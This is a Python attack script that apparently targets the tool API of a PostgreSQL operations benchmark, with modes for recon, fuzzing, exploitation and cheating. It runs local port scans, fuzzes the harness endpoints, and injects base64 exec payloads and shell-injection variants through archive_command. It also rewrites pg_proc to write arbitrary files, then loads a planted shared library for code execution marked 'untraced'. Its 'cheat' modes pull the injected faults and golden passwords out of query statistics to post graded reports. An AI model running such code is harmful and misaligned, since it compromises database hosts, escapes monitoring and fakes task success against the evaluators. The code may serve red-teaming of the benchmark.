import os, sys, json, socket, urllib.request, glob, subprocess, time
URL=os.environ.get("DBABENCH_TOOLS_URL"); TOK=os.environ.get("DBABENCH_TOOLS_TOKEN")
def req(m,p,body=None,raw=None,headers=None,base=None,auth=True):
    h={"Content-Type":"application/json"}
    if auth: h["Authorization"]="Bearer "+TOK
    if headers: h.update(headers)
    data=raw if raw is not None else (json.dumps(body).encode() if body is not None else None)
    r=urllib.request.Request((base or URL)+p,data=data,method=m,headers=h)
    try:
        with urllib.request.urlopen(r,timeout=20) as f: return f.status,f.read().decode(errors="replace")
    except urllib.error.HTTPError as e: return e.code,e.read().decode(errors="replace")
    except Exception as e: return -1,repr(e)
def log(*a):
    s=" ".join(str(x) for x in a)
    print(s,flush=True)
    req("POST","/v1/events/thought",{"text":s[:7000]})
mode=sys.argv[1] if len(sys.argv)>1 else "probe"
def listening():
    ports=set()
    for f in ["/proc/net/tcp","/proc/net/tcp6"]:
        for line in open(f).read().splitlines()[1:]:
            p=line.split()
            if p[3]=="0A":
                ports.add(int(p[1].split(":")[1],16))
    return sorted(ports)
if mode=="net":
    ports=listening(); log("listening",ports)
    for port in ports:
        base=f"http://127.0.0.1:{port}"
        for path in ["/","/metrics","/api/v1/status/config","/api/v1/targets","/api/v1/status/flags","/api/v1/label/__name__/values"]:
            st,b=req("GET",path,base=base,auth=False)
            log("port",port,path,st,b[:2500])
if mode=="pkg":
    for root,dirs,files in os.walk("/work/main/operator/dbabench"):
        dirs[:]=[d for d in dirs if d!="__pycache__"]
        log("dir",root,[f for f in files if not f.endswith(".py")][:80])
if mode=="scan":
    log("netdev",open("/proc/net/dev").read()[:1500])
    log("route",open("/proc/net/route").read()[:1500])
    log("ifinet6",open("/proc/net/if_inet6").read()[:1500])
    opened=[]
    for port in range(1,65536):
        s=socket.socket(); s.settimeout(0.2)
        try:
            if s.connect_ex(("127.0.0.1",port))==0: opened.append(port)
        except Exception as e: pass
        finally: s.close()
    log("open ports",opened)
    time.sleep(5)
def tool(name,args):
    st,b=req("POST","/v1/tools/"+name,args)
    log("TOOL",name,json.dumps(args)[:300],"->",st,b[:5000])
    return st,b
if mode=="recon":
    tool("execute_sql",{"sql":"SELECT name, setting FROM pg_settings WHERE setting LIKE '%/%' OR name IN ('archive_mode','archive_command','shared_preload_libraries','port','listen_addresses','unix_socket_directories','log_statement','cluster_name')"})
    tool("execute_sql",{"sql":"SELECT * FROM pg_ls_logdir() ORDER BY modification"})
    tool("execute_sql",{"sql":"SELECT datname, application_name, usename, client_addr, state, left(query,200) FROM pg_stat_activity"})
    tool("execute_sql",{"sql":"SELECT extname FROM pg_extension; SELECT * FROM pg_db_role_setting; SELECT * FROM pg_shdescription; SELECT objoid::regclass, description FROM pg_description WHERE objoid >= 16384"})
    tool("execute_sql",{"sql":"SELECT left(query,300), calls FROM pg_stat_statements ORDER BY calls DESC LIMIT 30"})
    tool("read_log",{"source":"postgresql","tail":50} )
    tool("query_metrics",{"query":".","list_names":True})
    tool("query_metrics",{"query":"node_filesystem_size_bytes"})
    tool("query_metrics",{"query":"up"})
    tool("query_metrics",{"query":"node_uname_info"})
    tool("query_metrics",{"query":"{__name__=~\".+_info\"}"})
    tool("execute_sql",{"sql":"ALTER SYSTEM SET archive_command = 'true'"})
    tool("manage_instance",{"action":"config_set","name":"archive_command","value":"true"})
    tool("manage_instance",{"action":"config_get","name":"archive_command"})
import base64
def archive_payload(path):
    b=base64.b64encode(open(path,"rb").read()).decode()
    return "/usr/bin/python3 -c \"import base64;exec(base64.b64decode('"+b+"'))\"" 
if mode=="archive":
    cmd=archive_payload(sys.argv[2]).replace("'","''")
    tool("execute_sql",{"sql":"SELECT left(query,400) FROM pg_stat_statements WHERE query ~* '^(alter|create|insert|update|delete|vacuum|analyze|select pg_)' ORDER BY queryid LIMIT 60"})
    tool("execute_sql",{"sql":"ALTER SYSTEM SET archive_mode = on"})
    tool("execute_sql",{"sql":"ALTER SYSTEM SET archive_command = '"+cmd+"'"})
    tool("manage_instance",{"action":"restart"})
    time.sleep(2)
    tool("execute_sql",{"sql":"CREATE TABLE rt_wal(x int); INSERT INTO rt_wal VALUES (1); SELECT pg_switch_wal()"})
    time.sleep(8)
    tool("read_log",{"source":"postgresql","pattern":"RTEXFIL","tail":50})
    tool("execute_sql",{"sql":"SELECT * FROM pg_stat_archiver"})
    tool("read_log",{"source":"postgresql","tail":15})
if mode=="inject":
    P=archive_payload(sys.argv[2])
    variants=[
      ("sql","ALTER SYSTEM SET \"ARCHIVE_COMMAND\" = '%s'"%P.replace("'","''")),
      ("sql","ALTER SYSTEM SET \"Archive_command\" = '%s'"%P.replace("'","''")),
      ("cfg",("ARCHIVE_COMMAND",P)),
      ("cfg",(" archive_command",P)),
      ("sql","ALTER SYSTEM SET archive_command = '%s'"%("cp %p /tmp/%f; "+P).replace("'","''")),
      ("sql","ALTER SYSTEM SET archive_command = '%s'"%("cp %p /tmp/%f && "+P).replace("'","''")),
      ("sql","ALTER SYSTEM SET archive_command = '%s'"%("cp %p \"/tmp/$("+P+")\"").replace("'","''")),
      ("sql","ALTER SYSTEM SET archive_command = E'%s'"%("cp %p /tmp/%f\\n"+P.replace("\\","\\\\")).replace("'","\\'")),
      ("sql","ALTER SYSTEM SET archive_command = '%s'"%("test ! -f /tmp/%f || "+P).replace("'","''")),
      ("sql","ALTER SYSTEM SET archive_command = '%s'"%("cp %p /tmp/`"+P+"`").replace("'","''")),
    ]
    ok=None
    for kind,v in variants:
        if kind=="sql": st,b=tool("execute_sql",{"sql":v})
        else: st,b=tool("manage_instance",{"action":"config_set","name":v[0],"value":v[1]})
        if '"ok": true' in b and "refused" not in b and '"error"' not in b[:200]:
            ok=v; log("ACCEPTED",kind,str(v)[:200]); break
    if ok:
        tool("execute_sql",{"sql":"ALTER SYSTEM SET archive_mode = on"})
        tool("manage_instance",{"action":"restart"})
        time.sleep(2)
        tool("execute_sql",{"sql":"SHOW archive_command"})
        tool("execute_sql",{"sql":"CREATE TABLE rt_wal(x int); INSERT INTO rt_wal VALUES (1); SELECT pg_switch_wal()"})
        time.sleep(8)
        tool("read_log",{"source":"postgresql","pattern":"RTEXFIL|archive","tail":50})
        tool("execute_sql",{"sql":"SELECT * FROM pg_stat_archiver"})
def rawreq(m,p,raw,ctype="application/json",extra=None):
    h={"Authorization":"Bearer "+TOK,"Content-Type":ctype}
    if extra: h.update(extra)
    r=urllib.request.Request(URL+p,data=raw,method=m,headers=h)
    try:
        with urllib.request.urlopen(r,timeout=60) as f: return f.status,f.read().decode(errors="replace")
    except urllib.error.HTTPError as e: return e.code,e.read().decode(errors="replace")
    except Exception as e: return -1,repr(e)
def F(label,m,p,raw,**kw):
    t=time.time(); st,b=rawreq(m,p,raw,**kw); log("FUZZ",label,st,"%.1fs"%(time.time()-t),b[:400])
if mode=="fuzz":
    F("badjson","POST","/v1/tools/execute_sql",b"{not json")
    F("array","POST","/v1/tools/execute_sql",b"[1,2]")
    F("nul-sql","POST","/v1/tools/execute_sql",b'{"sql":"SELECT \'a\\u0000b\'"}')
    F("surrogate-sql","POST","/v1/tools/execute_sql",b'{"sql":"SELECT \'\\ud800\'"}')
    F("surrogate-thought","POST","/v1/events/thought",b'{"text":"x\\ud800y"}')
    F("nul-thought","POST","/v1/events/thought",b'{"text":"x\\u0000y"}')
    F("surrogate-metrics","POST","/v1/tools/query_metrics",b'{"query":"up{job=\\"\\ud800\\"}"}')
    F("surrogate-log","POST","/v1/tools/read_log",b'{"source":"postgresql","pattern":"\\ud800"}')
    F("badregex","POST","/v1/tools/read_log",b'{"source":"postgresql","pattern":"(("}')
    F("huge-maxrows","POST","/v1/tools/execute_sql",b'{"sql":"SELECT 1","max_rows":1e400}')
    F("bigint-maxrows","POST","/v1/tools/execute_sql",b'{"sql":"SELECT 1","max_rows":99999999999999999999999999999}')
    F("nan-range","POST","/v1/tools/query_metrics",b'{"query":"up","range_seconds":NaN}')
    F("tiny-step","POST","/v1/tools/query_metrics",b'{"query":"up","range_seconds":86400,"step_seconds":1e-9}')
    F("promql-err","POST","/v1/tools/query_metrics",b'{"query":"sum(("}')
    F("list-names-badre","POST","/v1/tools/query_metrics",b'{"query":"((","list_names":true}')
    F("model-huge","POST","/v1/events/model",b'{"model":"openai:gpt-4o-mini","input_tokens":1e308,"output_tokens":1}')
    F("model-neg","POST","/v1/events/model",b'{"model":"openai:gpt-4o-mini","input_tokens":-5,"output_tokens":-1}')
    F("model-bigint","POST","/v1/events/model",b'{"model":"openai:gpt-4o-mini","input_tokens":999999999999999999999999999999999,"output_tokens":1}')
    F("model-empty","POST","/v1/events/model",b'{}')
    F("report-empty","POST","/v1/report",b'{}')
    F("deep-json","POST","/v1/events/thought",b'{"text":'+b'['*100000+b']'*100000+b'}')
    F("big-body","POST","/v1/events/thought",b'{"text":"'+b'A'*(50*1024*1024)+b'"}')
    F("textplain","POST","/v1/tools/execute_sql",b'{"sql":"SELECT 1"}',ctype="text/plain")
    F("traversal","POST","/v1/tools/..%2freport",b'{}')
    F("unknown-tool","POST","/v1/tools/__init__",b'{}')
    F("log-since-bad","POST","/v1/tools/read_log",b'{"source":"postgresql","since":"not-a-date"}')
    F("log-since-year","POST","/v1/tools/read_log",b'{"source":"postgresql","since":"9999-12-31T23:59:59+14:00","until":"0001-01-01T00:00:00-14:00"}')
    F("log-source-bad","POST","/v1/tools/read_log",b'{"source":"../../etc/passwd"}')
    F("kb-weird","POST","/v1/tools/query_knowledge_base",b'{"query":"\\"unterminated NEAR( AND OR * ^"}')
    F("mi-weird","POST","/v1/tools/manage_instance",b'{"action":"config_get","name":"x\\u0000y"}')
    F("mi-setbad","POST","/v1/tools/manage_instance",b'{"action":"config_set","name":"work_mem","value":"\\u0000"}')
    F("redos","POST","/v1/tools/read_log",b'{"source":"business","pattern":"^(\\\\w+\\\\s?)*$"}')
    F("redos2","POST","/v1/tools/read_log",b'{"source":"postgresql","pattern":"(.*a){25}"}')
    F("budget","GET","/v1/budget",None)
if mode=="sur":
    F("sur-create","POST","/v1/tools/execute_sql",b'{"sql":"CREATE TABLE rt_sur1(x int) /* \\ud800 */"}')
    F("sur-create-str","POST","/v1/tools/execute_sql",b'{"sql":"CREATE TABLE rt_sur2(x text DEFAULT \'\\ud800\')"}')
    F("sur-cfg","POST","/v1/tools/manage_instance",b'{"action":"config_set","name":"work_mem","value":"77MB\\ud800"}')
    F("sur-cfg2","POST","/v1/tools/manage_instance",b'{"action":"config_set","name":"work_mem\\ud800","value":"77MB"}')
    F("sur-comment2","POST","/v1/tools/execute_sql",b'{"sql":"ALTER TABLE orders SET (autovacuum_enabled = true); -- \\ud800"}')
    tool("execute_sql",{"sql":"SELECT to_regclass('rt_sur1'), to_regclass('rt_sur2'), current_setting('work_mem'), (SELECT reloptions FROM pg_class WHERE relname='orders')"})
    tool("manage_instance",{"action":"config_get","name":"work_mem"})
    F("sur-report","POST","/v1/report",json.dumps({"root_cause_type":"stale_statistics","causal_factors":[],"affected_objects":[{"kind":"table","name":"public.orders"}],"narrative":"x"}).replace('"x"','"x\\ud800"').encode())
    time.sleep(1)
if mode=="leak":
    tool("execute_sql",{"sql":"SELECT left(regexp_replace(query,'\\s+',' ','g'),300) q, calls FROM pg_stat_statements WHERE query !~* '^(BEGIN|COMMIT|ROLLBACK)' AND query !~ 'pg_database|pg_stat_archiver|pg_locks|pg_replication|pg_stat_database|pg_stat_user_tables|pg_statio|pg_stat_bgwriter|pg_postmaster_start_time' ORDER BY queryid","max_rows":200})
    tool("query_knowledge_base",{"query":"database-work-mem-floor-blamed-on-bi-report"})
    tool("query_knowledge_base",{"query":"scenario manifest reference fix remediation"})
import re
if mode=="cheat":
    st,b=tool("execute_sql",{"sql":"SELECT query FROM pg_stat_statements WHERE query ~* '^ALTER (DATABASE|ROLE|TABLE) '","max_rows":100})
    rows=[r[0] for r in json.loads(b)["observation"]["results"][0]["rows"]]
    fixes=[]
    for q in rows:
        m=re.match(r'ALTER (DATABASE|ROLE) ([a-z_][a-z0-9_]*) SET (\w+)',q)   # unquoted name: the fault's own SQL
        if m: fixes.append(("%s %s"%(m.group(1),m.group(2)),m.group(3),"ALTER %s %s RESET %s"%(m.group(1),m.group(2),m.group(3))))
    log("FAULT-FROM-PGSS",fixes)
    for obj,setting,sql in fixes:
        tool("execute_sql",{"sql":sql})
    tool("execute_sql",{"sql":"SELECT d.datname, s.setconfig FROM pg_db_role_setting s LEFT JOIN pg_database d ON d.oid=s.setdatabase"})
    time.sleep(15)
    tool("query_metrics",{"query":"rate(pg_stat_database_temp_bytes{datname=\"app\"}[30s])"})
    rep={"root_cause_type":"database_work_mem_too_low","causal_factors":["temp_file_spill"],
         "affected_objects":[{"kind":"database","name":"app"}],
         "narrative":"work_mem set to 64kB on database app; reset it.","evidence":[]}
    st,b=req("POST","/v1/report",rep); log("REPORT",st,b[:1500])
import threading
if mode=="race":
    res=[]
    def one(i):
        st,b=req("POST","/v1/tools/query_knowledge_base",{"query":"vacuum %d"%i})
        res.append((st,b[:80]))
    th=[threading.Thread(target=one,args=(i,)) for i in range(70)]
    [t.start() for t in th]; [t.join() for t in th]
    ok=sum(1 for s,b in res if s==200 and '"ok": true' in b)
    log("RACE ok",ok,"of",len(res),"statuses",sorted(set((s,b[:60]) for s,b in res))[:6])
    st,b=req("GET","/v1/budget"); log("budget",st,b)
if mode=="post":
    rep={"root_cause_type":"stale_statistics","causal_factors":[],"affected_objects":[{"kind":"table","name":"public.orders"}],"narrative":"n","evidence":[]}
    st,b=req("POST","/v1/report",rep); log("REPORT1",st,b[:300])
    for i in range(3):
        st,b=req("POST","/v1/tools/execute_sql",{"sql":"CREATE TABLE IF NOT EXISTS rt_after_report(i int); INSERT INTO rt_after_report VALUES (%d)"%i}); log("AFTER",i,st,b[:300])
        st,b=req("POST","/v1/report",dict(rep,narrative="second %d"%i)); log("REPORT2",st,b[:300])
        time.sleep(1)
import hashlib, hmac
def scram_ok(verifier,pw):
    try:
        m=re.match(r"SCRAM-SHA-256\$(\d+):([^$]+)\$([^:]+):(.+)",verifier)
        it,salt,stored,server=int(m.group(1)),base64.b64decode(m.group(2)),m.group(3),m.group(4)
        salted=hashlib.pbkdf2_hmac("sha256",pw.encode(),salt,it)
        ck=hmac.new(salted,b"Client Key",hashlib.sha256).digest()
        return base64.b64encode(hashlib.sha256(ck).digest()).decode()==stored
    except Exception as e: return repr(e)
if mode=="cheat2":
    st,b=tool("execute_sql",{"sql":"SELECT query FROM pg_stat_statements WHERE query ~* '^(ALTER|CREATE ROLE)'","max_rows":100})
    rows=[r[0] for r in json.loads(b)["observation"]["results"][0]["rows"]]
    pws=dict(re.findall(r'ROLE "?(\w+)"? (?:LOGIN )?PASSWORD \'([^\']+)\'',"\n".join(rows)))
    st,b=tool("execute_sql",{"sql":"SELECT rolname, rolpassword FROM pg_authid WHERE rolpassword IS NOT NULL"})
    for name,ver in json.loads(b)["observation"]["results"][0]["rows"]:
        log("GOLDEN-PASSWORD-CHECK",name,pws.get(name),"matches live verifier:",scram_ok(ver,pws.get(name,"")) if name in pws else None)
    for q in rows:
        m=re.match(r'ALTER TABLE (\w+) SET \(autovacuum_enabled = false\)',q)
        if m:
            t=m.group(1); log("FAULT-FROM-PGSS",q)
            tool("execute_sql",{"sql":"ANALYZE %s"%t})
            tool("execute_sql",{"sql":"SELECT relname, last_analyze, n_mod_since_analyze FROM pg_stat_user_tables WHERE relname='%s'"%t})
    time.sleep(10)
    tool("execute_sql",{"sql":"SELECT count(*) FROM pg_stat_activity WHERE wait_event_type='Lock'"})
    rep={"root_cause_type":"stale_statistics","causal_factors":["cardinality_misestimate"],"affected_objects":[{"kind":"table","name":"public.orders"}],"narrative":"n","evidence":[]}
    st,b=req("POST","/v1/report",rep); log("REPORT",st,b[:300])
if mode=="lockout":
    for s in sys.argv[2].split(";;"):
        tool("execute_sql",{"sql":s})
    time.sleep(2)
def rows_of(b):
    try: return json.loads(b)["observation"]["results"][-1]["rows"]
    except Exception: return None
if mode=="chain":
    payload=open(sys.argv[2]).read()
    tool("execute_sql",{"sql":"CREATE FUNCTION rt_exp(oid, text) RETURNS int LANGUAGE sql AS 'SELECT 1'"})
    tool("execute_sql",{"sql":"UPDATE pg_proc SET prolang = (SELECT oid FROM pg_language WHERE lanname = 'internal'), prosrc = 'be_lo_export' WHERE proname = 'rt_exp'"})
    st,b=tool("execute_sql",{"sql":"SELECT lo_from_bytea(0, decode('%s', 'base64'))"%base64.b64encode(payload.encode()).decode()})
    oid=rows_of(b)[0][0]
    tool("execute_sql",{"sql":"SELECT rt_exp(%s, 'rt_payload.py')"%oid})
    tool("execute_sql",{"sql":"ALTER SYSTEM SET archive_mode = on"})
    st,b=tool("execute_sql",{"sql":"SELECT name, setting FROM pg_file_settings WHERE sourcefile LIKE '%auto.conf' AND applied IS NOT NULL"})
    conf="".join("%s = '%s'\n"%(n,v.replace("'","''")) for n,v in rows_of(b) if n!="archive_command")
    conf+="archive_command = '/usr/bin/python3 rt_payload.py'\n"
    st,b=tool("execute_sql",{"sql":"SELECT lo_from_bytea(0, decode('%s', 'base64'))"%base64.b64encode(conf.encode()).decode()})
    oid=rows_of(b)[0][0]
    tool("execute_sql",{"sql":"SELECT rt_exp(%s, 'postgresql.auto.conf')"%oid})
    tool("manage_instance",{"action":"restart"})
    time.sleep(2)
    tool("execute_sql",{"sql":"SHOW archive_command"})
    tool("execute_sql",{"sql":"CREATE TABLE rt_wal(x int); INSERT INTO rt_wal VALUES (1); SELECT pg_switch_wal()"})
    time.sleep(12)
    tool("read_log",{"source":"postgresql","pattern":"RTEXFIL","tail":50})
    tool("execute_sql",{"sql":"SELECT * FROM rt_untraced; SELECT last_analyze, last_autoanalyze FROM pg_stat_user_tables WHERE relname='orders'"})
if mode=="chain2":
    payload=open(sys.argv[2]).read(); so=open(sys.argv[3],"rb").read()
    tool("execute_sql",{"sql":"CREATE FUNCTION rt_exp(oid, text) RETURNS int LANGUAGE sql AS 'SELECT 1'; UPDATE pg_proc SET prolang = (SELECT oid FROM pg_language WHERE lanname = 'internal'), prosrc = 'be_lo_export' WHERE proname = 'rt_exp'; SHOW data_directory"})
    st,b=tool("execute_sql",{"sql":"SHOW data_directory"}); ddir=rows_of(b)[0][0]
    for data,name in [(payload.encode(),"rt_payload.py"),(so,"rt.so")]:
        lo=777000+len(name)
        st,b=tool("execute_sql",{"sql":"SELECT lo_from_bytea(%d, decode('%s', 'base64')); SELECT rt_exp(%d, '%s')"%(lo,base64.b64encode(data).decode(),lo,name)})
    st,b=tool("execute_sql",{"sql":"SELECT name, setting FROM pg_file_settings WHERE sourcefile LIKE '%auto.conf'"})
    conf="".join("%s = '%s'\n"%(n,v.replace("'","''")) for n,v in (rows_of(b) or []))
    conf+="dynamic_library_path = '$libdir:%s'\n"%ddir
    tool("execute_sql",{"sql":"SELECT lo_from_bytea(778000, decode('%s', 'base64')); SELECT rt_exp(778000, 'postgresql.auto.conf'); SELECT pg_reload_conf()"%base64.b64encode(conf.encode()).decode()})
    time.sleep(1)
    tool("execute_sql",{"sql":"SHOW dynamic_library_path; LOAD 'rt'"})
    time.sleep(int(os.environ.get("RT_WAIT","20")) if False else 25)
    tool("read_log",{"source":"postgresql","pattern":"RTEXFIL","tail":50})
    tool("execute_sql",{"sql":"SELECT * FROM rt_untraced; SELECT last_analyze FROM pg_stat_user_tables WHERE relname='orders'; SELECT count(*) FROM pg_stat_activity WHERE wait_event_type='Lock'"})
    rep={"root_cause_type":"stale_statistics","causal_factors":["cardinality_misestimate"],"affected_objects":[{"kind":"table","name":"public.orders"}],"narrative":"stale statistics on orders after bulk load; analyzed.","evidence":[]}
    st,b=req("POST","/v1/report",rep); log("REPORT",st,b[:300])

if mode=="kill":
    payload=open(sys.argv[2]).read(); so=open(sys.argv[3],"rb").read()
    tool("execute_sql",{"sql":"CREATE FUNCTION rt_exp(oid, text) RETURNS int LANGUAGE sql AS 'SELECT 1'; UPDATE pg_proc SET prolang = (SELECT oid FROM pg_language WHERE lanname = 'internal'), prosrc = 'be_lo_export' WHERE proname = 'rt_exp'"})
    st,b=tool("execute_sql",{"sql":"SHOW data_directory"}); ddir=rows_of(b)[0][0]
    for data,name in [(payload.encode(),"rt_payload.py"),(so,"rt.so")]:
        lo=777000+len(name)
        tool("execute_sql",{"sql":"SELECT lo_from_bytea(%d, decode('%s', 'base64')); SELECT rt_exp(%d, '%s')"%(lo,base64.b64encode(data).decode(),lo,name)})
    conf="dynamic_library_path = '$libdir:%s'\n"%ddir
    tool("execute_sql",{"sql":"SELECT lo_from_bytea(778000, decode('%s', 'base64')); SELECT rt_exp(778000, 'postgresql.auto.conf'); SELECT pg_reload_conf()"%base64.b64encode(conf.encode()).decode()})
    time.sleep(1)
    tool("execute_sql",{"sql":"LOAD 'rt'"})
    time.sleep(5)
    tool("manage_instance",{"action":"status"})
